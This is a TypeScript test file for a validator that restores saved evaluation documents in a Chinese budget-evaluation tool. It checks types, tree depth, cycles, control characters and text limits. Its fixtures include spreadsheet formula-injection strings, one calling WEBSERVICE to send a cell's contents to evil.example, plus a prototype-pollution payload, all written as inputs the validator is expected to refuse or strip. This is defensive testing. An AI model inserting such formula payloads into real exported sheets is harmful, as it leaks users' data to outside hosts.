import { readdirSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { Evaluation, Indicator, RestoreResult } from '../../../src/domain/index.ts';
import { TEMPLATES, TEXT_LIMIT, applyCellEdits, evaluate, nationalFramework, restoreEvaluation, selfEvaluation2022 } from '../../../src/domain/index.ts';
import { evaluationOf, leaf, loadFixture } from './helpers.ts';

const CRAFTED_DECIMALS = '2)+0*LEN(HYPERLINK("http://evil.example/"))+ROUND(0,0';
const CRAFTED_MIN = '80,"良")&WEBSERVICE("http://evil.example/?d="&C3)&IF(FALSE';

const seeds = readdirSync(new URL('../../fixtures/', import.meta.url)).filter((f) => /^seed-.*\.json$/.test(f));

/** A JSON round trip: what a backup file or the carrier sheet gives back. */
const json = (value: unknown): Record<string, unknown> => JSON.parse(JSON.stringify(value)) as Record<string, unknown>;

function errorsOf(result: RestoreResult): string[] {
  expect(result.ok, 'should be refused').toBe(false);
  return result.ok ? [] : result.errors;
}

function restored(result: RestoreResult): { evaluation: Evaluation; warnings: string[] } {
  if (!result.ok) throw new Error(`refused: ${result.errors.join(' | ')}`);
  return result;
}

/** A chain of `depth` levels, one node each. */
function chain(depth: number): Indicator[] {
  let node: Indicator = { id: `n${depth}`, name: `第${depth}层`, weight: 1, children: [] };
  for (let d = depth - 1; d >= 1; d--) node = { id: `n${d}`, name: `第${d}层`, weight: 1, children: [node] };
  return [node];
}

describe('restoreEvaluation: what Jixiao wrote comes back unchanged', () => {
  it.each(seeds)('%s passes through deep-equal, without warnings', (name) => {
    const fixture = loadFixture(name);
    const { evaluation, warnings } = restored(restoreEvaluation(fixture));
    expect(evaluation).toStrictEqual(fixture);
    expect(warnings).toEqual([]);
    expect(evaluation).not.toBe(fixture);
    expect(evaluation.indicators[0]).not.toBe(fixture.indicators[0]);
    expect(evaluate(evaluation).total).toBe(evaluate(fixture).total);
  });

  it('passes every template, and each rule preset, through unchanged', () => {
    for (const template of TEMPLATES) {
      const e = template.create();
      expect(restored(restoreEvaluation(json(e))).evaluation).toStrictEqual(json(e));
    }
    const withEverything = evaluationOf([
      leaf({ name: '比例', rule: { type: 'ratio', floor: 0.6, rateDecimals: null }, target: '≥95%', actual: '90%', statusOverride: null }),
      leaf({ name: '阶梯', rule: { type: 'step', unit: 'absolute', size: 1, deduction: 0.5 }, enteredScore: 3, pinned: true }),
      leaf({ name: '按次', rule: { type: 'occurrence', deduction: 1 }, statedScore: null }),
      leaf({ name: '偏离', rule: { type: 'deviation', threshold: 0.95, point: 0.01, shareOfWeight: 0.02 }, statusOverride: '部分完成' }),
      leaf({ name: '分档', rule: { type: 'bands', input: 'achievement', bands: [{ min: 0.9, minInclusive: false, score: 5 }, { min: null, minInclusive: true, score: 0 }] } }),
      leaf({ name: '等级', rule: { type: 'levels', levels: [{ label: '好', score: 5 }], chosen: '好' } }),
      leaf({ name: '要点', rule: { type: 'checklist', mode: 'deduct', items: [{ label: '①', points: 1, met: true }, { label: '②', points: 1, met: null }], deduction: 0.5, findings: 2 } }),
      leaf({ name: '公式', rule: { type: 'formula', expression: 'A*2', variables: [{ name: 'A', expression: '19/20' }], bands: null } }),
      leaf({ name: '手工', rule: { type: 'manual' }, enteredScore: null, code: 'C11', explanation: '解释\n第二行', guidance: '\t缩进', criteria: '标准' }),
    ], {
      funds: { unit: '万元', initialBudget: 100, annualBudget: 120, executed: 119.5, weight: 10, statedRate: 0.9958, statedScore: null },
      adjustments: [
        { id: 'a1', kind: 'execution-cap', name: '执行率封顶', enabled: true, rate: null, caps: [{ below: 0.8, cap: 89 }] },
        { id: 'a2', kind: 'overshoot-dock', name: '超额扣分', enabled: false, threshold: 0.3, points: 1 },
      ],
      statedTotal: 88.5,
    });
    withEverything.meta = { ...withEverything.meta, goalExpected: '目标', goalAchieved: '完成', layout: 'selfeval2022' };
    expect(restored(restoreEvaluation(json(withEverything))).evaluation).toStrictEqual(json(withEverything));
  });
});

describe('restoreEvaluation: crafted values never reach a formula', () => {
  it('refuses the crafted decimals', () => {
    const e = json(nationalFramework());
    (e.settings as Record<string, unknown>).decimals = CRAFTED_DECIMALS;
    const errors = errorsOf(restoreEvaluation(e));
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatch(/^评分设置：小数位数不是数字（“2\)\+0\*LEN/);
  });

  it('refuses decimals that are numbers but not an integer 0–6', () => {
    for (const decimals of [7, -1, 2.5, 1e300]) {
      const e = json(nationalFramework());
      (e.settings as Record<string, unknown>).decimals = decimals;
      expect(errorsOf(restoreEvaluation(e)).join(), String(decimals)).toMatch(/评分设置：小数位数应为 0–6 之间的整数/);
    }
  });

  it('refuses the crafted grade band, naming the grade', () => {
    const e = json(nationalFramework());
    const scale = (e.settings as { gradeScale: { bands: { grade: string; min: unknown }[] } }).gradeScale;
    scale.bands[1]!.min = CRAFTED_MIN;
    const errors = errorsOf(restoreEvaluation(e));
    expect(errors).toEqual([expect.stringMatching(/^评分设置：等级“良”的下限不是数字（“80,"良"\)&WEBSERVICE/)]);
  });

  it('refuses a text where a rule parameter belongs, naming the indicator', () => {
    const e = evaluationOf([leaf({ name: '预算执行率', rule: { type: 'bands', input: 'actual', bands: [{ min: 0.9, minInclusive: true, score: 5 }] } })]);
    const raw = json(e);
    const rule = (raw.indicators as Indicator[])[0]!.children[0]!.rule as unknown as { bands: Record<string, unknown>[] };
    rule.bands[0]!.min = CRAFTED_MIN;
    expect(errorsOf(restoreEvaluation(raw))[0]).toMatch(/^指标“预算执行率”的计分规则：分档下限（第 1 档）不是数字/);
    for (const [type, params] of [
      ['ratio', { floor: '0.6' }], ['ratio', { rateDecimals: 'ROUND(1,1)' }], ['step', { unit: 'percent', size: '1', deduction: 1 }],
      ['occurrence', { deduction: null }], ['deviation', { threshold: 0.95, point: 0.01, shareOfWeight: {} }],
      ['levels', { levels: [{ label: '好', score: '5' }] }], ['checklist', { mode: 'award', items: [{ label: '①', points: [1], met: null }] }],
      ['formula', { expression: 1, variables: [] }], ['step', { unit: 'percent', size: 1e16, deduction: 1 }],
    ] as const) {
      const bad = json(e);
      (bad.indicators as Indicator[])[0]!.children[0]!.rule = { type, ...params } as never;
      expect(errorsOf(restoreEvaluation(bad))[0], `${type} ${JSON.stringify(params)}`).toMatch(/^指标“预算执行率”的计分规则/);
    }
  });

  it('refuses an unknown rule type and bad enums', () => {
    const e = evaluationOf([leaf({ name: '甲', rule: { type: 'eval' } as never })]);
    expect(errorsOf(restoreEvaluation(json(e)))[0]).toMatch(/指标“甲”的计分规则：计分规则类型“eval”无法识别/);
    const status = evaluationOf([leaf({ name: '乙', statusOverride: '=1+1' as never })]);
    expect(errorsOf(restoreEvaluation(json(status)))[0]).toMatch(/指标“乙”：完成情况“=1\+1”不是可选的值/);
    const rounding = json(nationalFramework());
    (rounding.settings as Record<string, unknown>).rounding = 'up';
    expect(errorsOf(restoreEvaluation(rounding))[0]).toMatch(/评分设置：舍入方式/);
  });
});

describe('restoreEvaluation: trees', () => {
  it('refuses a cycle (an indicator inside itself), without hanging', () => {
    const e = nationalFramework();
    const top = e.indicators[0]!;
    top.children[0]!.children.push(top);
    const errors = errorsOf(restoreEvaluation(e));
    expect(errors.join()).toContain(`指标“${top.name}”：它的下级中又含有它自身（循环引用）`);
  });

  it('refuses a node that appears twice (shared object), without walking it twice', () => {
    // 30 levels of two references to the same node: 2^30 paths if each were walked.
    let node: Indicator = { id: 'x30', name: '底层', weight: 1, children: [] };
    for (let d = 29; d >= 1; d--) node = { id: `x${d}`, name: `层${d}`, weight: 1, children: [node, node] };
    const e = evaluationOf([]);
    e.indicators = [node];
    const errors = errorsOf(restoreEvaluation(e));
    expect(errors.join()).toContain('在指标树中出现了不止一次');
  });

  it('accepts 64 levels and refuses 65', () => {
    const ok = evaluationOf([]);
    ok.indicators = chain(64);
    expect(restoreEvaluation(json(ok)).ok).toBe(true);
    const deep = evaluationOf([]);
    deep.indicators = chain(65);
    expect(errorsOf(restoreEvaluation(json(deep)))).toEqual(['指标“第65层”：指标层级超过 64 层']);
    // Far deeper (as a crafted file can be): refused just the same, no stack overflow.
    const deeper = evaluationOf([]);
    deeper.indicators = chain(5000);
    expect(errorsOf(restoreEvaluation(deeper)).join()).toContain('超过 64 层');
  });

  it('refuses duplicate and missing ids', () => {
    const e = evaluationOf([leaf({ id: 'same', name: '甲' }), leaf({ id: 'same', name: '乙' })]);
    expect(errorsOf(restoreEvaluation(json(e)))).toEqual(['指标“乙”：编号“same”与其他指标重复']);
    const noId = json(evaluationOf([leaf({ name: '丙' })]));
    delete ((noId.indicators as Indicator[])[0]!.children[0] as Partial<Indicator>).id;
    expect(errorsOf(restoreEvaluation(noId))).toEqual(['指标“丙”：缺少编号']);
    const noName = json(evaluationOf([leaf({ name: '' })]));
    ((noName.indicators as Indicator[])[0]!.children[0] as { id: unknown }).id = 7;
    expect(errorsOf(restoreEvaluation(noName))[0]).toMatch(/^第 1\.1 项指标：编号不是有效的文本/);
  });
});

describe('restoreEvaluation: wrong types, each named in Chinese', () => {
  const base = () => json(nationalFramework());
  const cases: [string, (e: Record<string, unknown>) => unknown, RegExp][] = [
    ['null', () => null, /数据为空/],
    ['a string', () => 'evaluation', /不是对象/],
    ['an array', () => [], /不是对象/],
    ['meta missing', (e) => { delete e.meta; return e; }, /^评价：缺少基本信息$/],
    ['meta null', (e) => ({ ...e, meta: null }), /缺少基本信息/],
    ['meta a list', (e) => ({ ...e, meta: [] }), /基本信息不是对象/],
    ['settings missing', (e) => { delete e.settings; return e; }, /缺少评分设置/],
    ['indicators an object', (e) => ({ ...e, indicators: {} }), /指标列表不是数组/],
    ['indicators missing', (e) => { delete e.indicators; return e; }, /指标列表不是数组（缺少）/],
    ['children a string', (e) => { (e.indicators as Record<string, unknown>[])[0]!.children = 'x'; return e; }, /指标“决策”：下级指标不是列表/],
    ['an indicator null', (e) => { (e.indicators as unknown[])[1] = null; return e; }, /第 2 项指标：不是对象/],
    ['weight a text', (e) => { (e.indicators as Record<string, unknown>[])[0]!.weight = '15'; return e; }, /指标“决策”：分值不是数字（“15”）/],
    ['project name a number', (e) => { (e.meta as Record<string, unknown>).projectName = 1; return e; }, /基本信息：项目名称不是文本/],
    ['type unknown', (e) => { (e.meta as Record<string, unknown>).type = '@SUM(1)'; return e; }, /基本信息：评价类型“@SUM\(1\)”不是可选的值/],
    ['adjustments an object', (e) => ({ ...e, adjustments: {} }), /总分调整不是列表/],
    ['funds a text', (e) => ({ ...e, funds: 'x' }), /项目资金不是对象/],
    ['funds amount a text', (e) => ({ ...e, funds: { unit: '元', initialBudget: '=1', annualBudget: null, executed: null, weight: 10 } }), /项目资金：年初预算数不是数字/],
    ['pinned a text', (e) => { (e.indicators as Record<string, unknown>[])[0]!.pinned = 'yes'; return e; }, /固定得分不是“是\/否”/],
    ['id empty', (e) => ({ ...e, id: '' }), /^评价：缺少编号/],
    ['id a number', (e) => ({ ...e, id: 5 }), /^评价：编号不是有效的文本（5）/],
    ['id with a NUL', (e) => ({ ...e, id: 'a\u0000b' }), /^评价：编号含有控制字符$/],
    ['grade bands not a list', (e) => { (e.settings as { gradeScale: Record<string, unknown> }).gradeScale.bands = 5; return e; }, /评分设置：等级标准的等级不是列表/],
  ];
  it.each(cases)('%s', (_label, make, message) => {
    const result = restoreEvaluation(make(base()));
    expect(errorsOf(result).join(' | ')).toMatch(message);
  });

  it('never throws, whatever it is given', () => {
    const hostile = Object.defineProperty({}, 'id', { enumerable: true, get() { throw new Error('boom'); } });
    const junk: unknown[] = [undefined, 0, NaN, true, Symbol('s'), () => 1, new Date(), new Map(), hostile, { meta: [], settings: [], indicators: [[]] }];
    for (const value of junk) expect(() => restoreEvaluation(value)).not.toThrow();
    expect(restoreEvaluation(hostile).ok).toBe(false);
  });

  it('lists at most 30 problems and counts the rest', () => {
    const e = evaluationOf(Array.from({ length: 50 }, (_, i) => leaf({ name: `指标${i}`, weight: 'x' as never })));
    const errors = errorsOf(restoreEvaluation(json(e)));
    expect(errors).toHaveLength(31);
    expect(errors[30]).toBe('另有 21 处问题未列出');
  });
});

describe('restoreEvaluation: repairs, with a warning', () => {
  it('removes NUL and other control characters, keeping tab and line breaks', () => {
    const e = json(nationalFramework());
    (e.meta as Record<string, unknown>).projectName = 'A\u0000B\u0007C\u001bD\u007f';
    (e.indicators as Record<string, unknown>[])[0]!.reason = '第一行\n第二行\t完\r\n';
    (e.indicators as Record<string, unknown>[])[1]!.name = '\u0000过程';
    const { evaluation, warnings } = restored(restoreEvaluation(e));
    expect(evaluation.meta.projectName).toBe('ABCD');
    expect(evaluation.indicators[0]!.reason).toBe('第一行\n第二行\t完\r\n');
    expect(evaluation.indicators[1]!.name).toBe('过程');
    expect(warnings).toEqual(['已删除文本中的控制字符（如 NUL）：基本信息的项目名称、指标“过程”的名称']);
  });

  it('cuts a 1 MB project name to 100,000 characters with a warning, or refuses it when asked', () => {
    const e = json(nationalFramework());
    (e.meta as Record<string, unknown>).projectName = '项'.repeat(1 << 20);
    const { evaluation, warnings } = restored(restoreEvaluation(e));
    expect(evaluation.meta.projectName).toHaveLength(TEXT_LIMIT);
    expect(warnings).toEqual(['文本超过 100,000 字，超出部分已截去：基本信息的项目名称（原 1,048,576 字）']);
    expect(errorsOf(restoreEvaluation(e, { overlongText: 'refuse' }))).toEqual(['基本信息：项目名称长 1,048,576 字，超过 100,000 字的上限，请缩短']);
    const kept = restored(restoreEvaluation(e, { overlongText: 'keep' }));
    expect(kept.evaluation.meta.projectName).toHaveLength(1 << 20);
    expect(kept.warnings).toEqual([]);
  });

  it('drops unknown keys, __proto__ and constructor among them, and never pollutes a prototype', () => {
    const text = JSON.stringify(nationalFramework()).replace(
      '"meta":{',
      '"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},"extra":1,"meta":{"__proto__":{"polluted":"yes"},',
    );
    const { evaluation, warnings } = restored(restoreEvaluation(JSON.parse(text)));
    expect(Object.keys(evaluation)).not.toContain('__proto__');
    expect(Object.hasOwn(evaluation, 'constructor')).toBe(false);
    expect(Object.hasOwn(evaluation.meta, '__proto__')).toBe(false);
    expect(Object.getPrototypeOf(evaluation)).toBe(Object.prototype);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(warnings).toEqual(['已忽略无法识别的字段：评价的“__proto__”、评价的“constructor”、评价的“extra”、基本信息的“__proto__”']);
  });

  it('fills what older documents may lack', () => {
    const e = json(nationalFramework());
    delete e.adjustments;
    delete e.funds;
    delete (e.settings as Record<string, unknown>).decimals;
    const { evaluation, warnings } = restored(restoreEvaluation(e));
    expect(evaluation.adjustments).toEqual([]);
    expect(evaluation.funds).toBeNull();
    expect(evaluation.settings.decimals).toBe(2);
    expect(warnings).toEqual([]);
  });

  it('gives a copy: changing it leaves the input as it was', () => {
    const e = selfEvaluation2022();
    const before = json(e);
    const { evaluation } = restored(restoreEvaluation(e));
    evaluation.indicators[0]!.name = '改';
    evaluation.settings.gradeScale.bands[0]!.min = 1;
    expect(json(e)).toStrictEqual(before);
  });
});

describe('typing never stores a NUL', () => {
  it('applyCellEdits removes control characters from every text field, keeping line breaks', () => {
    const e = evaluationOf([leaf({ id: 'a', name: '甲' })]);
    const fields = ['name', 'code', 'explanation', 'guidance', 'criteria', 'target', 'actual', 'reason'] as const;
    const after = applyCellEdits(e, fields.map((field) => ({ nodeId: 'a', field, value: `x\u0000y\u0008z\n第二行` })));
    const node = after.indicators[0]!.children[0]!;
    for (const field of fields) expect(node[field], field).toBe('xyz\n第二行');
    // Typing only a NUL over an empty field changes nothing at all.
    expect(applyCellEdits(e, [{ nodeId: 'a', field: 'reason', value: '扣分原因\u0000' }])).toBe(e);
  });
});
